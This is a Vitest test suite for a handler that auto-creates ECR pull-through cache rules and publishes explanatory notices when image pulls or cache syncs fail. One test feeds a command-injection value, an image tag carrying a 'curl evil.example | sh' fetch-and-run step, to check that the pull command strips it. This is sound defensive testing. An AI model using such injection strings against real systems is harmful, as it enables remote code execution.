import { describe, expect, it } from 'vitest';
import { AutopilotError } from '../../../lib/errors';
import { parseEvent } from '../../../lib/events/parseEvent';
import type { PublishNoticeChange } from '../../../lib/notify/changes';
import { Notice, type PtcCreatedNotice, type PtcFailureNotice } from '../../../lib/notify/notices';
import { PlanningWriter } from '../../../lib/plan/PlanningWriter';
import { routeChanges } from '../../../lib/plan/routeChanges';
import type { ChangeOutcome, ChangeWriter } from '../../../lib/plan/types';
import { ptcWriters, type PtcChange } from '../../../lib/pull-through-cache/changes';
import { handlePullThroughCacheEvent, PullThroughCacheEvent } from '../../../lib/pull-through-cache/onPullThroughCache';
import type { PtcDeps } from '../../../lib/pull-through-cache/types';
import { withRepeatWindows } from '../../../lib/notify/repeatWindows';
import { reconcilePullThroughCache } from '../../../lib/pull-through-cache/syncPullThroughCache';
import { MemoryStateStore } from '../../../lib/state/MemoryStateStore';
import { presentNotice } from '../../../lib/notify/present/presentNotice';
import { loadEvent, type EventJson } from '../../support/events';
import { ACCOUNT, InMemoryPtcRegistry, NOW, ptcConfig, REGION, secretArn, TOPIC_ARN } from './ptcFixtures';

const CLOUDTRAIL = 'cloudtrail/batch-get-image-repository-not-found';
const SYNC_FAILED = 'ptc-action/sync-failed';
const SYNC_SUCCEEDED = 'ptc-action/sync-succeeded';
const DOCKER_SECRET = { name: 'ecr-pullthroughcache/docker-hub', arn: secretArn('ecr-pullthroughcache/docker-hub') };

/** Records published notices and acknowledges them. */
class NoticeRecorder implements ChangeWriter<PublishNoticeChange> {
  readonly notices: Notice[] = [];
  async apply(change: PublishNoticeChange): Promise<ChangeOutcome> {
    this.notices.push(change.notice);
    return { status: 'applied' };
  }
}

/** The use case wired as the Lambda is: notices through the repeat windows over `state`. */
function harness(registry = new InMemoryPtcRegistry({ secrets: [DOCKER_SECRET] }), clock: { now: Date } = { now: NOW }) {
  const sns = new NoticeRecorder();
  const state = new MemoryStateStore({ now: () => clock.now.getTime() });
  const deps: PtcDeps = {
    config: ptcConfig(),
    ptc: registry,
    writer: routeChanges({ ...ptcWriters(registry), sns: withRepeatWindows(sns, { state, clock: () => clock.now }) }),
    topicArn: TOPIC_ARN,
    clock: () => clock.now,
    logger: { debug: () => undefined, info: () => undefined, warn: () => undefined, error: () => undefined },
  };
  return { deps, sns, registry };
}

function event(name: string, mutate: (raw: EventJson) => void = () => undefined) {
  const raw = loadEvent(name);
  mutate(raw);
  return parseEvent(PullThroughCacheEvent, raw, 'pull-through cache event');
}

describe('onPullThroughCache: failed pulls (CloudTrail)', () => {
  it('creates the autoCreate rule and its template (template first), then tells the user to pull again', async () => {
    // Prepare
    const { deps, sns, registry } = harness();

    // Act
    const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL), deps);

    // Assess
    expect(report.outcome).toBe('done');
    expect(report.changes.map(({ change, outcome }) => `${change.action} ${change.target} ${outcome.status}`)).toEqual([
      'ecr:CreateRepositoryCreationTemplate docker-hub applied',
      'ecr:CreatePullThroughCacheRule docker-hub applied',
      `sns:Publish ${TOPIC_ARN} applied`,
    ]);
    expect(registry.rules).toEqual([{ prefix: 'docker-hub', upstreamRegistryUrl: 'registry-1.docker.io', upstreamRegistry: 'docker-hub', credentialArn: DOCKER_SECRET.arn }]);
    const notice = sns.notices[0] as PtcCreatedNotice;
    expect(notice).toMatchObject({
      id: 'c2a9f0d4-6b3e-4d17-8e5a-91f7b3c0d6e2:ptc.created',
      kind: 'ptc.created',
      repository: 'docker-hub/library/alpine',
      data: {
        prefix: 'docker-hub',
        imageReference: `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/docker-hub/library/alpine:3.20`,
        pullCommand: `docker pull ${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/docker-hub/library/alpine:3.20`,
        trigger: 'BatchGetImage failed with RepositoryNotFoundException',
      },
    });
    expect(Notice.safeParse(notice).success).toBe(true);
  });

  it('plans the same in plan mode, reading only', async () => {
    // Prepare
    const { deps, registry } = harness();
    const planned = new PlanningWriter();

    // Act
    const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL), { ...deps, writer: planned });

    // Assess
    expect(planned.changes.map((change) => change.action)).toEqual(['ecr:CreateRepositoryCreationTemplate', 'ecr:CreatePullThroughCacheRule', 'sns:Publish']);
    expect(report.decision).toContain('would create rule docker-hub');
    expect(registry.rules).toEqual([]);
  });

  it('creates one rule for concurrent events, and only the event that created it notifies', async () => {
    // Prepare: both events read the registry before either creates the rule.
    const registry = new InMemoryPtcRegistry({ secrets: [DOCKER_SECRET] });
    const first = harness(registry);
    const second = harness(registry);
    const staleRead = registry.listRules.bind(registry);
    let reads = 0;
    registry.listRules = async () => {
      reads += 1;
      return reads <= 2 ? [] : staleRead();
    };

    // Act
    const [a, b] = await Promise.all([
      handlePullThroughCacheEvent(event(CLOUDTRAIL), first.deps),
      handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.id = 'second-event')), second.deps),
    ]);

    // Assess
    expect(registry.rules).toHaveLength(1);
    expect(first.sns.notices.length + second.sns.notices.length).toBe(1);
    expect([a.outcome, b.outcome]).toEqual(['done', 'done']);
    expect([a.decision, b.decision].some((decision) => decision.includes('created concurrently'))).toBe(true);
  });

  it.each<[string, (raw: EventJson) => void, RegExp]>([
    ['a repository under no declared prefix nor known alias', (raw) => (raw.detail.requestParameters.repositoryName = 'team-a/api'), /under no declared pull-through cache prefix, nor under a known upstream alias/],
    ['an alias only as a name, not a path segment', (raw) => (raw.detail.requestParameters.repositoryName = 'docker-hubby/alpine'), /under no declared pull-through cache prefix/],
    ['a known alias that is the whole name (no path under it)', (raw) => (raw.detail.requestParameters.repositoryName = 'ghcr'), /under no declared pull-through cache prefix/],
    ['another API call', (raw) => (raw.detail.eventName = 'InitiateLayerUpload'), /only failed pulls/],
    ['another error', (raw) => (raw.detail.errorCode = 'AccessDeniedException'), /only RepositoryNotFoundException/],
    ['a successful pull', (raw) => delete raw.detail.errorCode, /only RepositoryNotFoundException/],
    ['a pull from another registry', (raw) => (raw.detail.requestParameters.registryId = '111122223333'), /registry 111122223333/],
    ['no repository name', (raw) => (raw.detail.requestParameters = null), /names no repository/],
  ])('ignores %s quietly', async (_name, mutate, why) => {
    // Prepare
    const { deps, sns, registry } = harness();

    // Act
    const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL, mutate), deps);

    // Assess
    expect(report).toMatchObject({ outcome: 'ignored', changes: [] });
    expect(report.decision).toMatch(why);
    expect(sns.notices).toEqual([]);
    expect(registry.calls.filter((call) => !call.startsWith('Describe'))).toEqual([]);
  });

  it('creates a declared rule that is not in autoCreate when a pull finds it missing, exactly as the sync would', async () => {
    // Prepare: quay is declared (not autoCreate) and missing: the sync has not run yet, or someone deleted it.
    const { deps, sns, registry } = harness();
    const sync = new PlanningWriter();
    await reconcilePullThroughCache({ config: deps.config, ptc: new InMemoryPtcRegistry({ secrets: [DOCKER_SECRET] }), writer: sync });
    const syncBuilds = sync.changes.filter((change) => change.target === 'quay');

    // Act
    const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.detail.requestParameters.repositoryName = 'quay/prometheus/node-exporter')), deps);

    // Assess: the same changes, built by the same planner, then applied.
    expect(report.outcome).toBe('done');
    expect(report.decision).toMatch(/declared rule quay is missing \(not synced yet, or deleted\): created rule quay → quay\.io and its template/);
    const created = report.changes.filter(({ change }) => change.action !== 'sns:Publish').map(({ change }) => change);
    expect(created).toEqual(syncBuilds);
    expect(created.map((change) => change.action)).toEqual(['ecr:CreateRepositoryCreationTemplate', 'ecr:CreatePullThroughCacheRule']);
    expect(registry.rules).toEqual([{ prefix: 'quay', upstreamRegistryUrl: 'quay.io', upstreamRegistry: 'quay' }]);
    expect(registry.templates.map((template) => template.prefix)).toEqual(['quay']);
    expect(sns.notices[0]).toMatchObject({ kind: 'ptc.created', data: { prefix: 'quay', pullCommand: `docker pull ${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/quay/prometheus/node-exporter:3.20` } });
  });

  it('keeps autoCreate meaning "declared, created on first use": the sync waits, the first failed pull creates', async () => {
    // Prepare
    const { deps, registry } = harness();
    const sync = new PlanningWriter();

    // Act
    await reconcilePullThroughCache({ config: deps.config, ptc: registry, writer: sync });
    const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL), deps);

    // Assess
    expect(sync.changes.filter((change) => change.target === 'docker-hub')).toEqual([]);
    expect(report.decision).toContain('rule docker-hub is in autoCreate (created on first use)');
    expect(registry.rules.map((rule) => rule.prefix)).toEqual(['docker-hub']);
  });

  it('prefers the longest declared prefix, as ECR does', async () => {
    // Prepare
    const config = ptcConfig('pullThroughCache:\n  rules:\n    - { prefix: cache, upstream: ecr-public }\n    - { prefix: cache/k8s, upstream: k8s }\n');
    const { deps, registry } = harness();

    // Act
    await handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.detail.requestParameters.repositoryName = 'cache/k8s/pause')), { ...deps, config });

    // Assess
    expect(registry.rules.map((rule) => `${rule.prefix} ${rule.upstreamRegistryUrl}`)).toEqual(['cache/k8s registry.k8s.io']);
  });

  it('puts only a tag docker accepts, or a well-formed digest, into the pull command', async () => {
    // Prepare
    const { deps, sns } = harness();

    // Act
    await handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.detail.requestParameters.imageIds = [{ imageTag: '3.20; curl evil.example | sh' }])), deps);

    // Assess
    expect((sns.notices[0] as PtcCreatedNotice).data.pullCommand).toBe(`docker pull ${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/docker-hub/library/alpine`);
  });

  it('does not create a rule under a known upstream alias the configuration does not declare: it reports the entry to add', async () => {
    // Prepare
    const { deps, sns, registry } = harness();

    // Act
    const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.detail.requestParameters.repositoryName = 'ghcr/fluxcd/flux-cli')), deps);

    // Assess
    expect(registry.calls.filter((call) => !call.startsWith('Describe'))).toEqual([]);
    expect(registry.rules).toEqual([]);
    expect(report.outcome).toBe('done');
    expect(report.decision).toContain('ghcr/ is the usual prefix for GitHub Container Registry but is not declared, so no rule is created');
    const notice = sns.notices[0] as PtcFailureNotice;
    expect(notice).toMatchObject({
      id: 'c2a9f0d4-6b3e-4d17-8e5a-91f7b3c0d6e2:ptc.failure',
      kind: 'ptc.failure',
      severity: 'warning',
      data: {
        source: 'undeclared',
        prefix: 'ghcr',
        repositoryName: 'ghcr/fluxcd/flux-cli',
        upstreamRegistryUrl: 'ghcr.io',
        failureCode: 'NOT_DECLARED',
        configLines: ['{ prefix: ghcr, upstream: github-container-registry, credentialSecret: ecr-pullthroughcache/ghcr }'],
      },
    });
    // github/ already caches ghcr.io in this configuration: the notice says so.
    expect(notice.data.guidance.likelyCause).toContain('already cached under github/');
    expect(notice.data.guidance.commands[0]).toMatch(/^aws secretsmanager create-secret --name ecr-pullthroughcache\/ghcr /);
    expect(Notice.safeParse(notice).success).toBe(true);
  });

  it('reports an undeclared prefix once: later pulls under it are ignored with the reason, other prefixes still reported', async () => {
    // Prepare
    const { deps, sns } = harness();
    const under = (repositoryName: string, id: string) =>
      event(CLOUDTRAIL, (raw) => {
        raw.id = id;
        raw.detail.requestParameters.repositoryName = repositoryName;
      });

    // Act
    const reports = [];
    for (const [name, id] of [['ghcr/fluxcd/flux-cli', 'e-1'], ['ghcr/stefanprodan/podinfo', 'e-2'], ['ghcr/fluxcd/flux-cli', 'e-3'], ['chainguard/static', 'e-4']] as const) {
      reports.push(await handlePullThroughCacheEvent(under(name, id), deps));
    }

    // Assess
    expect(reports.map((report) => report.outcome)).toEqual(['done', 'ignored', 'ignored', 'done']);
    expect(reports[1]?.decision).toContain('Already reported for this prefix (once per prefix, for 90 days); this pull is counted for the next report.');
    expect(sns.notices.map((notice) => (notice as PtcFailureNotice).data.prefix)).toEqual(['ghcr', 'chainguard']);
  });

  it('reports an undeclared prefix again after 90 days, with the count of the pulls in between', async () => {
    // Prepare
    const clock = { now: NOW };
    const { deps, sns } = harness(undefined, clock);
    const run = (id: string) => handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => ((raw.id = id), (raw.detail.requestParameters.repositoryName = 'ghcr/fluxcd/flux-cli'))), deps);

    // Act
    await run('e-1');
    clock.now = new Date(NOW.getTime() + 89 * 86_400_000);
    const within = await run('e-2');
    clock.now = new Date(NOW.getTime() + 90 * 86_400_000);
    const after = await run('e-3');

    // Assess
    expect([within.outcome, after.outcome]).toEqual(['ignored', 'done']);
    expect(sns.notices).toHaveLength(2);
    expect(sns.notices[1]?.repeats).toEqual({ suppressed: 1, since: NOW.toISOString(), windowSeconds: 90 * 86_400 });
  });

  it('publishes one critical notice an hour for a storm of failed pulls under an autoCreate prefix whose secret is missing, the next carrying the count', async () => {
    // Prepare: docker-hub is in autoCreate and needs ecr-pullthroughcache/docker-hub, which does not exist.
    const clock = { now: NOW };
    const { deps, sns, registry } = harness(new InMemoryPtcRegistry({ secrets: [] }), clock);
    const pull = (id: string) => handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.id = id)), deps);

    // Act: a pod in image-pull back-off, one failed pull every 20 seconds for 70 minutes.
    const reports = [];
    for (let i = 0; i < 210; i += 1) {
      clock.now = new Date(NOW.getTime() + i * 20_000);
      reports.push(await pull(`backoff-${i}`));
    }

    // Assess
    expect(registry.rules).toEqual([]);
    expect(sns.notices.map((notice) => [notice.kind, notice.severity, notice.origin.eventId])).toEqual([
      ['ptc.failure', 'critical', 'backoff-0'],
      ['ptc.failure', 'critical', 'backoff-180'],
    ]);
    expect(sns.notices[0]?.repeats).toBeUndefined();
    expect(sns.notices[1]?.repeats).toEqual({ suppressed: 179, since: NOW.toISOString(), windowSeconds: 3600 });
    expect(reports[1]?.decision).toMatch(/A repeat of the same failure within the hour: counted, and told with the next notice\.$/);
  });

  it('publishes one notice an hour per prefix and failure code for failed cache syncs', async () => {
    // Prepare
    const clock = { now: NOW };
    const { deps, sns } = harness(undefined, clock);
    const sync = (id: string, code: string) =>
      handlePullThroughCacheEvent(
        event(SYNC_FAILED, (raw) => {
          raw.id = id;
          raw.detail['failure-code'] = code;
        }),
        deps,
      );

    // Act
    for (let i = 0; i < 5; i += 1) await sync(`limited-${i}`, 'UpstreamTooManyRequests');
    await sync('denied-0', 'UpstreamAccessDenied');
    await sync('denied-1', 'UpstreamAccessDenied');

    // Assess
    expect(sns.notices.map((notice) => notice.origin.eventId)).toEqual(['limited-0', 'denied-0']);
  });

  it('gives configuration lines that, added to the configuration, declare exactly that rule', async () => {
    // Prepare
    const { deps, sns } = harness();
    await handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.detail.requestParameters.repositoryName = 'gitlab/group/app')), deps);
    const lines = (sns.notices[0] as PtcFailureNotice).data.configLines ?? [];

    // Act
    const config = ptcConfig(`pullThroughCache:\n  rules:\n${lines.map((line) => `    - ${line}`).join('\n')}\n`);

    // Assess
    expect(config.pullThroughCache?.rules).toEqual([expect.objectContaining({ prefix: 'gitlab', upstream: 'gitlab-container-registry', credentialSecret: 'ecr-pullthroughcache/gitlab' })]);
  });

  it('ignores a miss under a prefix that already is a rule (the cause is elsewhere)', async () => {
    // Prepare
    const { deps, sns } = harness(new InMemoryPtcRegistry({ rules: [{ prefix: 'docker-hub', upstreamRegistryUrl: 'registry-1.docker.io' }], secrets: [DOCKER_SECRET] }));

    // Act
    const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL), deps);

    // Assess
    expect(report.outcome).toBe('ignored');
    expect(report.decision).toContain('already a pull-through cache rule');
    expect(sns.notices).toEqual([]);
  });

  it('handles GetDownloadUrlForLayer (no image id): the reference has no tag', async () => {
    // Prepare
    const { deps, sns } = harness();

    // Act
    await handlePullThroughCacheEvent(
      event(CLOUDTRAIL, (raw) => {
        raw.detail.eventName = 'GetDownloadUrlForLayer';
        raw.detail.requestParameters = { repositoryName: 'docker-hub/library/alpine', registryId: ACCOUNT, layerDigest: 'sha256:abc' };
      }),
      deps,
    );

    // Assess
    expect((sns.notices[0] as PtcCreatedNotice).data.imageReference).toBe(`${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/docker-hub/library/alpine`);
  });

  it('hints at /library/ for a Docker Hub image without a namespace', async () => {
    // Prepare
    const { deps, sns } = harness();

    // Act
    await handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.detail.requestParameters.repositoryName = 'docker-hub/alpine')), deps);

    // Assess
    expect((sns.notices[0] as PtcCreatedNotice).data.hints[0]).toContain(`docker-hub/library/alpine`);
  });

  it('does not create a rule whose secret is missing: it says how to create the secret', async () => {
    // Prepare
    const { deps, sns, registry } = harness(new InMemoryPtcRegistry());

    // Act
    const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL), deps);

    // Assess
    expect(registry.rules).toEqual([]);
    expect(report.changes.map(({ change }) => change.action)).toEqual(['sns:Publish']);
    const notice = sns.notices[0] as PtcFailureNotice;
    expect(notice).toMatchObject({ kind: 'ptc.failure', severity: 'critical', data: { source: 'auto-create', failureCode: 'SECRET_MISSING', guidance: { category: 'secret' } } });
    expect(notice.data.guidance.commands[0]).toBe(
      `aws secretsmanager create-secret --name ecr-pullthroughcache/docker-hub --region ${REGION} --secret-string '{"username":"<Docker Hub user name>","accessToken":"<Docker Hub personal access token>"}'`,
    );
  });

  it('does not attempt a 51st rule: it explains the quota', async () => {
    // Prepare
    const full = Array.from({ length: 50 }, (_, index) => ({ prefix: `cache-${index}`, upstreamRegistryUrl: 'public.ecr.aws' }));
    const { deps, sns, registry } = harness(new InMemoryPtcRegistry({ rules: full, secrets: [DOCKER_SECRET] }));

    // Act
    await handlePullThroughCacheEvent(event(CLOUDTRAIL), deps);

    // Assess
    expect(registry.rules).toHaveLength(50);
    expect(sns.notices[0]).toMatchObject({ kind: 'ptc.failure', data: { failureCode: 'OVER_QUOTA', guidance: { category: 'quota' } } });
  });

  describe('validates the rule it created, as the sync does', () => {
    const invalid = { isValid: false, failure: 'Unable to authenticate with registry-1.docker.io: invalid username or password' };

    it('publishes the created notice with the validation when ECR finds the rule valid', async () => {
      // Prepare
      const { deps, sns, registry } = harness();

      // Act
      const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL), deps);

      // Assess
      expect(registry.calls.slice(-3)).toEqual(['CreateRepositoryCreationTemplate docker-hub', 'CreatePullThroughCacheRule docker-hub', 'ValidatePullThroughCacheRule docker-hub']);
      expect(sns.notices[0]).toMatchObject({ kind: 'ptc.created', severity: 'info', data: { validation: 'valid' } });
      expect(report.decision).toContain('created rule docker-hub → registry-1.docker.io and its template (validation: valid)');
    });

    it('says what to fix before pulling again, critical, when the validation fails: the same problem the sync reports', async () => {
      // Prepare
      const { deps, sns } = harness(new InMemoryPtcRegistry({ secrets: [DOCKER_SECRET], validations: { 'docker-hub': invalid } }));
      const afterwards = new InMemoryPtcRegistry({ rules: [{ prefix: 'docker-hub', upstreamRegistryUrl: 'registry-1.docker.io', upstreamRegistry: 'docker-hub', credentialArn: DOCKER_SECRET.arn }], secrets: [DOCKER_SECRET], validations: { 'docker-hub': invalid } });
      const sync = await reconcilePullThroughCache({ config: deps.config, ptc: afterwards, writer: new PlanningWriter() });
      const syncProblem = sync.rules.find((rule) => rule.prefix === 'docker-hub')?.problems.find((problem) => problem.code === 'VALIDATION_FAILED');

      // Act
      const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL), deps);

      // Assess
      const notice = sns.notices[0] as PtcCreatedNotice;
      expect(notice).toMatchObject({ kind: 'ptc.created', severity: 'critical', data: { validation: `failed: ${invalid.failure}` } });
      expect(notice.data.validationFix).toEqual({ fix: syncProblem?.fix, command: syncProblem?.command });
      expect(notice.data.validationFix?.command).toMatch(/^aws secretsmanager put-secret-value --secret-id ecr-pullthroughcache\/docker-hub /);
      expect(Notice.safeParse(notice).success).toBe(true);
      expect(report.outcome).toBe('done');
      expect(report.decision).toContain(`but ${syncProblem?.message}`);
      expect(presentNotice(notice).subject).toBe('Pull-through cache docker-hub created, but its validation failed');
    });

    it('keeps the rule and still notifies when the validation call itself fails, saying how to run it', async () => {
      // Prepare
      const registry = new InMemoryPtcRegistry({ secrets: [DOCKER_SECRET] });
      registry.validateRule = async () => {
        throw new AutopilotError('ACCESS_DENIED', 'ecr:ValidatePullThroughCacheRule was denied');
      };
      const { deps, sns } = harness(registry);

      // Act
      const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL), deps);

      // Assess
      expect(registry.rules).toHaveLength(1);
      expect(report.outcome).toBe('done');
      expect((sns.notices[0] as PtcCreatedNotice).data.validation).toBe(
        `not run: ecr:ValidatePullThroughCacheRule was denied; run aws ecr validate-pull-through-cache-rule --ecr-repository-prefix docker-hub --region ${REGION}`,
      );
    });

    it('calls no validation in plan mode (pending), nor for a rule without a credential', async () => {
      // Prepare
      const { deps, registry } = harness();
      const planned = new PlanningWriter();

      // Act
      const plan = await handlePullThroughCacheEvent(event(CLOUDTRAIL), { ...deps, writer: planned });
      const anonymous = await handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.detail.requestParameters.repositoryName = 'quay/prometheus/node-exporter')), deps);

      // Assess
      expect(plan.decision).toContain('(validation: pending (after the change))');
      expect(anonymous.decision).not.toContain('validation');
      expect(registry.calls.filter((call) => call.startsWith('Validate'))).toEqual([]);
    });
  });

  it('creates neither template nor rule when the template\'s KMS key is in another region: it says where the key must be', async () => {
    // Prepare: quay's template asks for a key of us-east-1; the pull fails in ap-northeast-2.
    const { deps, sns, registry } = harness();
    deps.config = ptcConfig(`pullThroughCache:
  rules:
    - prefix: quay
      upstream: quay
      template:
        encryption: KMS
        kmsKey: arn:aws:kms:us-east-1:${ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab
        customRoleArn: arn:aws:iam::${ACCOUNT}:role/ecr-repository-creation`);

    // Act
    const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL, (raw) => (raw.detail.requestParameters.repositoryName = 'quay/prometheus/node-exporter')), deps);

    // Assess
    expect(registry.rules).toEqual([]);
    expect(registry.templates).toEqual([]);
    expect(report.decision).toContain(`cannot be created: its template's KMS key arn:aws:kms:us-east-1:${ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab is in us-east-1, but the template applies in ${REGION}`);
    expect(sns.notices[0]).toMatchObject({ kind: 'ptc.failure', severity: 'critical', data: { source: 'auto-create', failureCode: 'KMS_KEY_REGION', guidance: { category: 'kms-region', title: "The template's KMS key is in another region" } } });
  });

  it('reports a create that fails with LIMIT_EXCEEDED (a race with another creator) and notifies', async () => {
    // Prepare
    const { deps, sns, registry } = harness();
    const failing: ChangeWriter<PtcChange> = {
      apply: async (change) => {
        if (change.action === 'ecr:CreatePullThroughCacheRule') {
          throw new AutopilotError('LIMIT_EXCEEDED', 'CreatePullThroughCacheRule docker-hub: the registry already has 50 pull-through cache rules, ECR\'s quota (not adjustable)', { retryable: false });
        }
        return registry.apply(change);
      },
    };

    // Act
    const report = await handlePullThroughCacheEvent(event(CLOUDTRAIL), { ...deps, writer: routeChanges({ ...ptcWriters(failing), sns: deps.writer }) });

    // Assess
    expect(report.outcome).toBe('failed');
    expect(sns.notices[0]).toMatchObject({ kind: 'ptc.failure', data: { failureCode: 'CREATE_FAILED', guidance: { category: 'quota' } } });
  });
});

describe('onPullThroughCache: ECR Pull Through Cache Action', () => {
  it('explains a failed sync with the likely cause, the fix and the commands', async () => {
    // Prepare
    const { deps, sns } = harness();

    // Act
    const report = await handlePullThroughCacheEvent(event(SYNC_FAILED), deps);

    // Assess
    expect(report.outcome).toBe('done');
    const notice = sns.notices[0] as PtcFailureNotice;
    expect(notice).toMatchObject({
      id: '5b1e7c9a-3f2d-4e81-9c6a-0d8f2b4a7e13:ptc.failure',
      severity: 'critical',
      repository: 'github/fluxcd/flux-cli',
      data: { source: 'sync-event', prefix: 'github', imageTag: 'v2.4.0', failureCode: 'UpstreamAccessDenied', guidance: { category: 'credentials' } },
    });
    expect(notice.data.guidance.commands).toEqual([
      `aws secretsmanager put-secret-value --secret-id ecr-pullthroughcache/github --region ${REGION} --secret-string '{"username":"<GitHub user name>","accessToken":"<GitHub personal access token (classic) with read:packages>"}'`,
      `aws ecr validate-pull-through-cache-rule --ecr-repository-prefix github --region ${REGION}`,
    ]);
    expect(Notice.safeParse(notice).success).toBe(true);
  });

  it('ignores a successful sync', async () => {
    // Prepare
    const { deps, sns } = harness();

    // Act
    const report = await handlePullThroughCacheEvent(event(SYNC_SUCCEEDED), deps);

    // Assess
    expect(report).toMatchObject({ outcome: 'ignored', changes: [] });
    expect(sns.notices).toEqual([]);
  });

  it.each(['FAILED', 'FAILURE', 'ERROR', 'failed'])('treats sync-status %s as a failure (the failure spelling is UNCONFIRMED)', async (status) => {
    // Prepare
    const { deps, sns } = harness();

    // Act
    await handlePullThroughCacheEvent(
      event(SYNC_FAILED, (raw) => {
        raw.detail['sync-status'] = status;
        delete raw.detail['failure-code'];
      }),
      deps,
    );

    // Assess
    expect(sns.notices[0]).toMatchObject({ kind: 'ptc.failure', data: { failureCode: status } });
  });

  it('explains a failure under a prefix the configuration does not declare, without a secret command', async () => {
    // Prepare
    const { deps, sns } = harness();

    // Act
    await handlePullThroughCacheEvent(
      event(SYNC_FAILED, (raw) => {
        raw.detail['ecr-repository-prefix'] = 'old-cache';
        raw.detail['repository-name'] = 'old-cache/nginx/nginx';
        raw.detail['failure-code'] = 'UpstreamTooManyRequests';
      }),
      deps,
    );

    // Assess
    expect(sns.notices[0]).toMatchObject({ data: { prefix: 'old-cache', guidance: { category: 'rate-limit' } } });
  });
});
